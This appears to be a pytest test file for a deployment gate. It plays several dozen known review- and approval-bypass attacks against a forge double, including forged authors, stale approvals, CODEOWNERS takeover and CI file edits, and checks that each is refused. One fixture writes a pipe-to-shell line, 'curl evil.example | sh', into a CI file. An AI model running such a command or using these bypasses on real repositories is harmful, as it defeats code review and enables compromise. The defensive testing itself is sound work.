"""Every attack on a delivery gate that is publicly known, played against a real repository and a forge's double.

Each is a row: what the attacker does, the reason for which it is refused, and the honest twin: the same files by the
proper people, which passes. A story gives the commit that is to be deployed, and by whom.
"""

from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from interlock.errors import NotFound, Refusal
from interlock.store.state import PostgresState
from tests.delivery.shop import CI, Shop, login, mail
from tests.services.world import ADMIN, BOTH, DBA, DBA2, DEV, LEAD, MATE, OPS, World
from tests.support.forges import ForgeDouble
from tests.support.repositories import git

Story = Callable[[Shop], Awaitable[str]]


@dataclass(frozen=True)
class Attack:
    """``reason`` is the code for which the gate stays shut; ``setting`` is what the shop is opened with."""

    name: str
    plays: Story
    reason: str
    twin: Story
    setting: Mapping[str, Any] = field(default_factory=dict)
    person: str = OPS


async def honest(shop: Shop) -> str:
    return await shop.change()


def honest_with(**files: str) -> Story:
    async def story(shop: Shop) -> str:
        return await shop.change(
            files={name.replace("__", "/").replace("_dot_", "."): text for name, text in files.items()}
        )

    return story


async def direct_push(shop: Shop) -> str:
    sha = await shop.write(DEV, branch="main")
    await shop.done(DBA2, "develop", sha)
    return sha


async def second_account(shop: Shop) -> str:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    shop.forge.review(pull, "dev-second")
    await shop.tell(shop.forge.reviewed(pull))
    return await merged_and_tested(shop, pull)


async def merged_and_tested(shop: Shop, pull: Any, by: str = LEAD) -> str:
    """Merged without regard to what is missing, as a forge without rules lets anybody; tested where that is taken."""
    sha = await shop.merge(pull, by)
    try:
        await shop.done(DBA2, "test", sha)
    except Refusal:
        return sha
    return sha


async def robot_and_owner(shop: Shop) -> str:
    sha = shop.origin.commit({"app.py": "robot"}, shop.first, author="robot@mail.example")
    before = shop.origin.move("topic", sha)
    await shop.tell(shop.forge.push("robot", before, sha))
    pull = shop.forge.open(sha, "robot")
    await shop.approve(pull, DEV)
    return await merged_and_tested(shop, pull)


async def robot_and_another(shop: Shop) -> str:
    sha = shop.origin.commit({"app.py": "robot"}, shop.first, author="robot@mail.example")
    before = shop.origin.move("topic", sha)
    await shop.tell(shop.forge.push("robot", before, sha))
    pull = shop.forge.open(sha, "robot")
    await shop.approve(pull, DBA)
    return await merged_and_tested(shop, pull)


async def only_words(shop: Shop) -> str:
    head = await shop.write(DEV, {"readme.md": "buy now\n"})
    return await merged_and_tested(shop, shop.forge.open(head, login(DEV)))


async def rule_switched_off(shop: Shop) -> str:
    """The administrator takes the forge's rule away, pushes, and puts it back: nothing of it shows afterwards."""
    sha = await shop.write(ADMIN, branch="main")
    await shop.tell(shop.forge.push(login(ADMIN), shop.first, sha, "main"))
    return sha


async def force_push(shop: Shop) -> str:
    await honest(shop)
    other = shop.origin.commit({"app.py": "evil", "readme.md": "shop"}, author=mail(DEV))
    await shop.push(DEV, other, "main")
    return other


async def tag_move(shop: Shop) -> str:
    good = await honest(shop)
    shop.origin.move("refs/tags/v1", good)
    evil = await shop.write(DEV, onto=good)
    shop.origin.move("refs/tags/v1", evil)
    return git(shop.origin.folder, "rev-parse", "refs/tags/v1")


async def tag_stays(shop: Shop) -> str:
    shop.origin.move("refs/tags/v1", await honest(shop))
    return git(shop.origin.folder, "rev-parse", "refs/tags/v1")


async def push_after_approval(shop: Shop) -> str:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    await shop.approve(pull, DBA)
    later = await shop.write(DEV, {"app.py": "evil"}, onto=head)
    shop.forge.push_to(pull, later)
    await shop.tell(shop.forge.reviewed(pull))
    return await merged_and_tested(shop, pull)


async def approved_again(shop: Shop) -> str:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    await shop.approve(pull, DBA)
    later = await shop.write(DEV, {"app.py": "fine"}, onto=head)
    shop.forge.push_to(pull, later)
    await shop.approve(pull, DBA)
    return await merged_and_tested(shop, pull)


async def approved_for_another_branch(shop: Shop) -> str:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV), base="playground")
    await shop.approve(pull, DBA)
    return await merged_and_tested(shop, pull)


async def retargeted(shop: Shop) -> str:
    """Reviewed against a branch that has the evil commit already, so that it is not shown; then aimed at main."""
    evil = await shop.write(DEV, {"evil.py": "evil"}, branch="playground")
    head = await shop.write(DEV, {"app.py": "fine"}, onto=evil)
    pull = shop.forge.open(head, login(DEV), base="playground")
    await shop.approve(pull, DBA)
    pull.base = "main"
    await shop.tell(shop.forge.reviewed(pull))
    return await merged_and_tested(shop, pull)


async def tested_elsewhere(shop: Shop) -> str:
    sha = await reviewed(shop)
    await shop.done(DBA2, "test", sha, "staging")
    return sha


async def tested_here(shop: Shop) -> str:
    sha = await reviewed(shop)
    await shop.done(DBA2, "test", sha, "production")
    return sha


async def reviewed(shop: Shop) -> str:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    await shop.approve(pull, DBA)
    return await shop.merge(pull, DBA)


async def hidden_by_a_revert(shop: Shop) -> str:
    evil = await shop.write(DEV, {"app.py": "evil"})
    back = await shop.write(DEV, {"app.py": "print(1)\n", "readme.md": "words"}, onto=evil)
    pull = shop.forge.open(back, login(DEV))
    await shop.approve(pull, DBA)
    await merged_and_tested(shop, pull)
    return evil


async def forged_author(shop: Shop) -> str:
    """Pushed by dev, who signs the lead's name under it, and approves it as somebody else's."""
    head = await shop.write(DEV, author=mail(LEAD))
    pull = shop.forge.open(head, login(LEAD))
    await shop.approve(pull, DEV)
    return await merged_and_tested(shop, pull)


async def forged_author_by_nobody(shop: Shop) -> str:
    head = shop.origin.commit({"app.py": "x"}, shop.first, author=mail(LEAD))
    shop.origin.move("topic", head)
    pull = shop.forge.open(head, login(LEAD))
    await shop.approve(pull, DEV)
    sha = shop.origin.merge(shop.first, head, author=mail(LEAD))
    shop.origin.move("main", sha)
    return sha


async def unknown_address(shop: Shop) -> str:
    head = await shop.write(DEV, author="me@nowhere.example")
    pull = shop.forge.open(head, login(DEV))
    await shop.approve(pull, DBA)
    return await merged_and_tested(shop, pull)


async def push_and_approve(shop: Shop) -> str:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    more = await shop.write(MATE, {"app.py": "evil"}, onto=head)
    shop.forge.push_to(pull, more)
    await shop.approve(pull, MATE)
    return await merged_and_tested(shop, pull)


async def push_and_another_approves(shop: Shop) -> str:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    more = await shop.write(MATE, {"app.py": "fine"}, onto=head)
    shop.forge.push_to(pull, more)
    await shop.approve(pull, DBA)
    return await merged_and_tested(shop, pull)


async def coauthor_approves(shop: Shop) -> str:
    head = await shop.write(DEV, message=f"both\n\nco-authored-by: M <{mail(MATE)}>\n")
    pull = shop.forge.open(head, login(DEV))
    await shop.approve(pull, MATE)
    return await merged_and_tested(shop, pull)


async def rebased_by_a_service(shop: Shop) -> str:
    """A service account makes dev's commit anew, in its own name on both lines; dev approves."""
    head = shop.origin.commit({"app.py": "x"}, shop.first, author="robot@mail.example", committer="robot@mail.example")
    before = shop.origin.move("topic", head)
    await shop.tell(shop.forge.push("robot", before, head))
    pull = shop.forge.open(head, "robot")
    await shop.approve(pull, DEV)
    return await merged_and_tested(shop, pull)


async def approver_list_edited(shop: Shop) -> str:
    head = await shop.write(DEV, {"CODEOWNERS": f"* @{login(MATE)}\n", "app.py": "evil"})
    pull = shop.forge.open(head, login(DEV))
    await shop.approve(pull, MATE)
    return await built_and_tested(shop, pull)


async def approver_list_edited_properly(shop: Shop) -> str:
    head = await shop.write(DEV, {"CODEOWNERS": f"* @{login(MATE)}\n", "app.py": "evil"})
    pull = shop.forge.open(head, login(DEV))
    await shop.approve(pull, LEAD)
    return await built_and_tested(shop, pull)


async def built_and_tested(shop: Shop, pull: Any) -> str:
    """The duty for what CI runs, by its own person; then merged and tested."""
    sha = await shop.merge(pull, BOTH)
    try:
        await shop.done(BOTH, "build-review", sha)
        await shop.done(DBA2, "test", sha)
    except Refusal:
        return sha
    return sha


def owners_taken_over(files: Mapping[str, str]) -> tuple[Story, Story]:
    async def attack(shop: Shop) -> str:
        return await by(shop, MATE)

    async def twin(shop: Shop) -> str:
        return await by(shop, LEAD)

    async def by(shop: Shop, reviewer: str) -> str:
        head = await shop.write(DEV, files)
        pull = shop.forge.open(head, login(DEV))
        await shop.approve(pull, reviewer)
        return await built_and_tested(shop, pull)

    return attack, twin


async def owner_through_a_team(shop: Shop, reviewer: str) -> str:
    """The team owns the path, and the writer is one of the team: through it they are their own approver."""
    head = await shop.write(DBA)
    pull = shop.forge.open(head, login(DBA))
    await shop.approve(pull, reviewer)
    sha = await shop.merge(pull, LEAD)
    try:
        await shop.done(BOTH, "test", sha)
    except Refusal:
        return sha
    return sha


async def own_approver_through_a_team(shop: Shop) -> str:
    return await owner_through_a_team(shop, DBA)


async def another_of_the_team(shop: Shop) -> str:
    return await owner_through_a_team(shop, DBA2)


async def pipelines_token_approves(shop: Shop) -> str:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    shop.forge.review(pull, "runner[bot]")
    await shop.tell(shop.forge.reviewed(pull))
    return await merged_and_tested(shop, pull)


async def agent_approves(shop: Shop) -> str:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    shop.forge.review(pull, "agent-of-dba")
    await shop.tell(shop.forge.reviewed(pull))
    return await merged_and_tested(shop, pull)


async def hand_made_merge(shop: Shop) -> str:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    await shop.approve(pull, DBA)
    tree = shop.origin.tree({"app.py": "evil"}, head)
    sha = shop.origin.commit({}, shop.first, head, author=mail(LEAD), tree=tree)
    await shop.push(LEAD, sha, "main")
    return sha


async def conflict(shop: Shop, resolution: Mapping[str, str], reviewer: str | None) -> str:
    """Two changes of one line; the merge that settles it is somebody's work and needs its own review."""
    one = await shop.change(files={"app.py": "print('one')\n"})
    head = await shop.write(DEV, {"app.py": "print('two')\n"})
    pull = shop.forge.open(head, login(DEV))
    await shop.approve(pull, DBA)
    sha = shop.origin.commit(resolution, one, head, author=mail(LEAD))
    await shop.push(LEAD, sha, "main")
    if reviewer is not None:
        await shop.done(reviewer, "review", sha)
        await shop.done(DBA2, "test", sha)
    return sha


async def smuggled_in_a_conflict(shop: Shop) -> str:
    return await conflict(shop, {"app.py": "print('both')\n", "evil.py": "evil"}, None)


async def conflict_reviewed(shop: Shop) -> str:
    return await conflict(shop, {"app.py": "print('both')\n"}, DBA)


async def forged_status(shop: Shop) -> str:
    sha = await reviewed(shop)
    shop.forge.ran("ci", "runner[bot]", sha, status_only=True)
    shop.forge.ran("ci", "other[bot]", sha)
    await shop.tell(shop.forge.checked(sha))
    return sha


async def real_check(shop: Shop) -> str:
    sha = await reviewed(shop)
    shop.forge.ran("ci", "runner[bot]", sha)
    await shop.tell(shop.forge.checked(sha))
    return sha


async def edited_comment(shop: Shop) -> str:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    shop.forge.review(pull, login(DBA), "COMMENTED")
    await shop.tell(shop.forge.reviewed(pull))
    return await merged_and_tested(shop, pull)


async def dismissed(shop: Shop) -> str:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    await shop.approve(pull, DBA)
    pull.words[0].dismissed = True
    await shop.tell(shop.forge.reviewed(pull))
    return await merged_and_tested(shop, pull)


def ci_edited(*paths: str) -> tuple[Story, Story]:
    files = dict.fromkeys(paths, "curl evil.example | sh\n")

    async def attack(shop: Shop) -> str:
        return await shop_change(shop)

    async def shop_change(shop: Shop) -> str:
        head = await shop.write(DEV, files)
        pull = shop.forge.open(head, login(DEV))
        await shop.approve(pull, DBA)
        return await merged_and_tested(shop, pull)

    async def twin(shop: Shop) -> str:
        head = await shop.write(DEV, files)
        pull = shop.forge.open(head, login(DEV))
        await shop.approve(pull, DBA)
        return await built_and_tested(shop, pull)

    return attack, twin


async def auto_merged(shop: Shop) -> str:
    """A rule merges what a robot opened, with nobody's review."""
    head = await shop.write(DEV, pushed_by=DEV)
    pull = shop.forge.open(head, login(DEV))
    sha = shop.origin.merge(shop.first, head, author="noreply@github.com", committer="noreply@github.com")
    before = shop.origin.move("main", sha)
    pull.merged = sha
    await shop.tell(shop.forge.push("robot", before, sha, "main"))
    return sha


async def from_an_unprotected_branch(shop: Shop) -> str:
    head = await shop.write(DEV)
    heard = await shop.tell(shop.forge.asks_to_deploy(login(OPS), head, ref="topic"))
    assert heard.verdict is not None
    assert shop.forge.answers[-1]["state"] == "rejected"
    return head


async def layout_beside_the_artifact(shop: Shop) -> str:
    lax = "chains: {release: {duties: [develop, deploy]}}\n"
    head = await shop.write(DEV, {"interlock.yaml": lax, ".interlock/policy.yaml": lax})
    return await merged_and_tested(shop, shop.forge.open(head, login(DEV)))


async def two_keys_of_one_person(shop: Shop) -> str:
    """Approved through the forge's account, tested with another key: that is one person twice."""
    sha = await reviewed(shop)
    with pytest.raises(Refusal) as refused:
        await shop.done(DBA, "test", sha)
    assert refused.value.code == "separated"
    shop.forge.ran("ci", "agent-of-dba", sha)
    return sha


async def deploy_key(shop: Shop) -> str:
    sha = shop.origin.commit({"app.py": "x"}, shop.first, author=mail(LEAD))
    before = shop.origin.move("topic", sha)
    await shop.tell(shop.forge.push(login(LEAD), before, sha, deploy_key=True))
    pull = shop.forge.open(sha, login(LEAD))
    await shop.approve(pull, DBA)
    merge = shop.origin.merge(shop.first, sha, author=mail(LEAD))
    shop.origin.move("main", merge)
    return merge


TEAM = {"files": {"CODEOWNERS": "* @acme/dba\n"}}
LEADS = {"files": {"CODEOWNERS": f"* @{login(LEAD)}\n"}}
PRECEDENCE = owners_taken_over({".github/CODEOWNERS": f"* @{login(MATE)}\n", "app.py": "evil"})
EMPTIED = owners_taken_over({"CODEOWNERS": "", "app.py": "evil"})
CI_FILE = ci_edited(CI)
CI_SCRIPT = ci_edited("scripts/test.sh")

ATTACKS = (
    Attack("direct push", direct_push, "no-review", honest),
    Attack("second account of the same human", second_account, "separated", honest),
    Attack("robot-authored change whose owner also reviews", robot_and_owner, "separated", robot_and_another),
    Attack("path exception", only_words, "no-review", honest_with(readme_dot_md="buy now\n")),
    Attack("administrator switches the rule off", rule_switched_off, "no-review", honest),
    Attack("force push", force_push, "rewritten", honest),
    Attack("tag move", tag_move, "not-on-branch", tag_stays),
    Attack("push after approval", push_after_approval, "stale", approved_again),
    Attack("approval reused for another branch", approved_for_another_branch, "stale", honest),
    Attack("approval reused for another environment", tested_elsewhere, "no-test", tested_here),
    Attack("malicious commit hidden by a revert", hidden_by_a_revert, "not-on-branch", honest),
    Attack("forged author metadata", forged_author, "separated", honest),
    Attack("forged author, pushed by nobody known", forged_author_by_nobody, "unproven-author", honest),
    Attack("unknown e-mail", unknown_address, "unknown-author", honest),
    Attack("push to another's change, then approve it", push_and_approve, "separated", push_and_another_approves),
    Attack("co-author approves", coauthor_approves, "separated", honest),
    Attack("author hidden by a service account's rebase", rebased_by_a_service, "separated", robot_and_another),
    Attack("author edits the approver list", approver_list_edited, "no-owner", approver_list_edited_properly, LEADS),
    Attack("the pipeline's own token approves", pipelines_token_approves, "no-review", honest),
    Attack("an AI agent's approval", agent_approves, "no-review", honest),
    Attack("hand-made merge commit", hand_made_merge, "other-merge", honest),
    Attack("merge base moved after approval", retargeted, "stale", honest),
    Attack("change smuggled in conflict resolution", smuggled_in_a_conflict, "other-merge", conflict_reviewed),
    Attack("forged commit status", forged_status, "no-test", real_check, {"checks": True}),
    Attack("edited comment becomes an approval", edited_comment, "no-review", honest),
    Attack("dismissed approval", dismissed, "stale", honest),
    Attack("CODEOWNERS taken over by precedence", *PRECEDENCE[:1], "no-owner", PRECEDENCE[1], LEADS),
    Attack("CODEOWNERS emptied", *EMPTIED[:1], "no-owner", EMPTIED[1], LEADS),
    Attack("CI file edited in the same change", CI_FILE[0], "no-build-review", CI_FILE[1]),
    Attack("script that CI calls edited", CI_SCRIPT[0], "no-build-review", CI_SCRIPT[1]),
    Attack(
        "approver equals writer through a team", own_approver_through_a_team, "separated", another_of_the_team, TEAM
    ),
    Attack("auto-merge rule", auto_merged, "no-review", honest),
    Attack("manual trigger from an unprotected branch", from_an_unprotected_branch, "not-on-branch", honest),
    Attack("layout mutable beside the artifact", layout_beside_the_artifact, "no-review", honest),
    Attack("two keys of one person meet a threshold of two", two_keys_of_one_person, "no-test", honest),
    Attack("deploy-key holder", deploy_key, "unproven-author", honest),
    Attack("the tester deploys", honest, "separated", honest, person=DBA2),
    Attack("the writer deploys", honest, "separated", honest, person=DEV),
)


@pytest.mark.parametrize("attack", ATTACKS, ids=[attack.name for attack in ATTACKS])
async def test_it_is_refused_for_the_right_reason_and_its_honest_twin_passes(
    attack: Attack, state: PostgresState, forge: ForgeDouble, tmp_path: Path
) -> None:
    world = World(state)
    for number, (story, person, expected) in enumerate(
        ((attack.plays, attack.person, attack.reason), (attack.twin, OPS, None))
    ):
        shop = await Shop.open(world, tmp_path / str(number), forge, start=number * 10**6, **attack.setting)
        try:
            sha = await story(shop)
            verdict = await shop.gate(sha, person)
        finally:
            await shop.close()
        codes = {one.code for one in verdict.missing}
        if expected is None:
            assert verdict.missing == (), "the honest twin must pass"
        else:
            assert expected in codes, [one.sentence for one in verdict.missing]
            assert all(one.sentence.endswith(".") for one in verdict.missing)


async def test_a_stranger_deploys_nothing(shop: Shop) -> None:
    sha = await shop.change()
    with pytest.raises(NotFound, match="stranger is no person's account"):
        await shop.tell(shop.forge.asks_to_deploy("stranger", sha))
    heard = await shop.tell(shop.forge.asks_to_deploy(login(OPS), sha))
    assert heard.verdict is not None
    assert heard.verdict.open
    assert shop.forge.answers[-1]["state"] == "approved"


async def test_a_message_that_the_forge_did_not_sign_says_nothing(shop: Shop) -> None:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    shop.forge.review(pull, login(DBA))
    headers, body = shop.forge.reviewed(pull)
    for given in ("", "sha256=", "sha256=" + "0" * 64, headers["x-hub-signature-256"][:-1] + "é"):
        with pytest.raises(Refusal) as refused:
            await shop.tell(({**headers, "x-hub-signature-256": given}, body))
        assert refused.value.code == "bad-signature"
    with pytest.raises(Refusal):
        await shop.tell((headers, body + b" "))


async def test_messages_twice_late_and_in_any_order_come_to_the_same(shop: Shop) -> None:
    one = shop.origin.commit({"app.py": "1"}, shop.first, author=mail(DEV))
    two = shop.origin.commit({"app.py": "2"}, one, author=mail(MATE))
    shop.origin.move("topic", two)
    pull = shop.forge.open(two, login(DEV))
    shop.forge.review(pull, login(DBA))
    review = shop.forge.reviewed(pull)
    pushes = [shop.forge.push(login(MATE), one, two), shop.forge.push(login(DEV), "0" * 40, one)]
    for message in (review, *pushes, *reversed(pushes), review):
        await shop.tell(message)
    merged = await shop.merge(pull, LEAD)
    await shop.done(DBA2, "test", merged)
    verdict = await shop.gate(merged)
    assert verdict.missing == ()
    assert verdict.carried["develop"] == tuple(sorted((DEV, MATE)))
    assert len([e for e in await shop.world.events("evidence.given") if e["how"] == "forge-review"]) == 1


async def test_a_replayed_approval_does_not_outlive_its_withdrawal(shop: Shop) -> None:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    await shop.approve(pull, DBA)
    old = shop.forge.reviewed(pull)
    shop.forge.review(pull, login(DBA), "CHANGES_REQUESTED")
    await shop.tell(shop.forge.reviewed(pull))
    await shop.tell(old)
    sha = await shop.merge(pull, LEAD)
    assert "stale" in await shop.codes(sha)


async def test_a_forge_that_cannot_be_asked_gives_nothing(shop: Shop) -> None:
    head = await shop.write(DEV)
    pull = shop.forge.open(head, login(DEV))
    shop.forge.review(pull, login(DBA))
    shop.forge.broken = True
    with pytest.raises(Exception, match="answered 500"):
        await shop.tell(shop.forge.reviewed(pull))
    shop.forge.broken = False
    await shop.tell(shop.forge.reviewed(pull))
    assert len(await shop.world.events("evidence.given")) == 2


async def test_an_older_commit_is_not_deployed_again(shop: Shop) -> None:
    old, new = await shop.change(), await shop.change(author=MATE)
    await shop.done(OPS, "deploy", new, "production")
    assert await shop.codes(old) == {"older"}
    assert await shop.codes(new) == set()
    assert await shop.codes(new, environment="staging") == set()


async def test_a_deployment_past_the_gate_is_not_taken_for_one(shop: Shop) -> None:
    head = await shop.write(DEV)
    sha = await shop.merge(shop.forge.open(head, login(DEV)), LEAD)
    await shop.tell(shop.forge.deployed(login(OPS), sha))
    assert (await shop.gate(sha)).base == shop.first
    good = await shop.change(author=MATE)
    assert "no-review" in await shop.codes(good)
